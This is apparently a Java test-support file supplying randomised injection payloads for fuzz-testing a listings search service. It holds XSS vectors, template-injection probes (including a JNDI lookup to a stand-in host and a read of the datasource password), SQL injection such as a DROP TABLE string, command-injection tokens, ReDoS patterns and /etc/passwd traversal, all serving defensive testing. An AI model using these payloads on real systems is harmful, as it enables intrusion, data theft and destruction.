package org.localoffer.service.search.questions;

import static org.localoffer.service.search.questions.Draw.MARKER;

/** Attempts at code injection. Each contains the marker. */
final class Payloads {

    private Payloads() {}

    static String element(Draw draw) {
        return draw.of(
                "<x-" + MARKER + " on" + MARKER + "=alert(1)>",
                "<" + MARKER + "/>",
                "<img src=x on" + MARKER + "=alert(1) onerror=alert(1)>",
                "<b " + MARKER + "=\"1\">bold</b>",
                "<svg/onload=alert(1) " + MARKER + ">",
                "<iframe " + MARKER + " srcdoc='<script>alert(1)</script>'></iframe>",
                "<a href=javascript:alert(1) " + MARKER + ">x</a>",
                "<style>*{" + MARKER + ":1}</style>",
                "<base href=//" + MARKER + ".example>",
                "<meta http-equiv=refresh content=\"0;url=//" + MARKER + ".example\">",
                "<" + MARKER + " ".repeat(draw.number(1, 30)) + "a=b");
    }

    static String script(Draw draw) {
        return draw.of(
                "<script>alert('" + MARKER + "')</script>",
                "<ScRiPt src=//" + MARKER + ".example></sCrIpT>",
                "<script " + MARKER,
                "<<script>alert(1)//<" + MARKER,
                "<scr<script>ipt>" + MARKER,
                "\\u003cscript\\u003e" + MARKER,
                "＜script＞" + MARKER,
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1) " + MARKER + ">\">",
                "javascript:alert(1)//" + MARKER);
    }

    static String breaker(Draw draw) {
        return draw.of(
                "\" on" + MARKER + "=\"alert(1)\" x=\"",
                "' on" + MARKER + "='alert(1)' x='",
                "\"><x-" + MARKER + ">",
                "'/><x-" + MARKER + ">",
                "` on" + MARKER + "=`1`",
                "\" autofocus onfocus=alert(1) " + MARKER + " ",
                "\\\" " + MARKER + "=1 ",
                "&quot; on" + MARKER + "=&quot;1",
                "\t\" " + MARKER + "=\n1 ");
    }

    static String end(Draw draw) {
        return draw.of(
                "</title>",
                "</textarea>",
                "</h1></form>",
                "-->",
                "]]>",
                "</body></html>",
                "</script>",
                "</style>",
                "<!--",
                "<![CDATA[",
                "<?xml version='1.0'?>");
    }

    static String template(Draw draw) {
        return draw.of(
                "{" + MARKER + "}",
                "{results.form.text}",
                "{#include layout/page}",
                "{#if true}" + MARKER + "{/if}",
                "{#" + MARKER + "}",
                "{!" + MARKER + "!}",
                "{|" + MARKER + "|}",
                "{str:eval('" + MARKER + "')}",
                "{config:property('quarkus.datasource.password')}",
                "${7*7}" + MARKER,
                "${" + MARKER + "}",
                "#{T(java.lang.Runtime)}",
                "{{7*7}}",
                "<%= 7*7 %>",
                "[[${7*7}]]",
                "\\{" + MARKER + "}",
                "{".repeat(draw.number(1, 40)),
                "${jndi:ldap://" + MARKER + ".example/a}",
                "@{" + MARKER + "}");
    }

    static String engine(Draw draw) {
        return draw.of(
                "name:*",
                "_exists_:name",
                "AND",
                "OR",
                "NOT",
                "&&",
                "||",
                "+autism",
                "-autism",
                "\"short",
                "breaks\"~5",
                "autism^9",
                "autism~2",
                "aut*sm",
                "?utism",
                "/[a-z]+/",
                "[1 TO *]",
                "{a TO b}",
                "(",
                ")",
                "\\",
                ":",
                "*:*",
                "*",
                "name.raw:>5",
                "a".repeat(draw.number(1, 200)) + "*");
    }

    static String json(Draw draw) {
        return draw.of(
                "{\"match_all\":{}}",
                "{\"query\":{\"script\":{\"source\":\"" + MARKER + "\"}}}",
                "\"}},\"size\":10000,\"x\":{\"" + MARKER + "\":\"",
                "[null, true, 1e999, \"" + MARKER + "\"]",
                "{\"$ne\": null}",
                "[".repeat(draw.number(1, 300)));
    }

    static String sql(Draw draw) {
        return draw.of(
                "'; drop table listing; --",
                "' or '1'='1",
                "1) union select version() --",
                "$$ || pg_sleep(5) || $$",
                "%' escape '\\",
                "'||(select 1)||'",
                ":words",
                "?1",
                "a & !b | (c <-> d):*",
                "\\'",
                "/* */");
    }

    static String pattern(Draw draw) {
        return draw.of(
                "%s",
                "%n",
                "%99999d",
                "$1",
                "$0",
                "\\1",
                "(a+)+$",
                "\\Q",
                "\\E",
                "\\u0041",
                "(?i)",
                "\\p{L}",
                "[",
                "%",
                "{0}",
                "{}",
                "&1",
                "!x!",
                "`id`",
                "$(id)",
                "; ls",
                "| cat",
                "a".repeat(draw.number(1, 60)) + "!");
    }

    static String path(Draw draw) {
        return draw.of(
                "../",
                "..\\",
                "/etc/passwd",
                "C:\\Windows\\",
                "file:///etc/passwd",
                "//" + MARKER + ".example/",
                "https://" + MARKER + ".example/?a=b",
                "/listings/%2e%2e/",
                "CON",
                "~/",
                ".",
                "/admin");
    }
}
